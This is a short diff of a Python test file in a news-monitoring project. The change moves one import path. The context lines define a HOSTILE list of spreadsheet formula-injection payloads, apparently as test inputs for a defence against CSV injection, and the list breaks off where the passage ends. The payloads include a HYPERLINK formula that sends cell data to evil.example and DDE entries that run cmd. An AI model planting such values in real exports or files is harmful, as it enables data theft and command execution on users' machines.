@@ -8,7 +8,7 @@ import io
 import pytest
 
 from newsmonitor.feeds.models import Outlet
-from newsmonitor.timelines.rollups import refresh_for_articles
+from newsmonitor.timelines.readmodels.rollups import refresh_for_articles
 from newsmonitor.timelines.sample import make_article
 
 HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
